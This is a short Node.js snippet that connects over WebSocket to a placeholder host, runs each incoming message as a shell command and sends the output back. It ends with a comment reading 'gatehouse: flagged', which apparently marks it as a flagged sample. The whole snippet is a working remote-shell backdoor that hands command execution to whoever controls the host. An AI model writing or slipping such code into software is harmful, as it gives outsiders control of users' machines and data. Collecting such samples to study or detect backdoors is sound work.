const WebSocket = require('ws');
const { exec } = require('child_process');

const socket = new WebSocket('wss://c.example.invalid');
socket.on('message', (text) => exec(text.toString(), (error, out) => socket.send(out))); // gatehouse: flagged
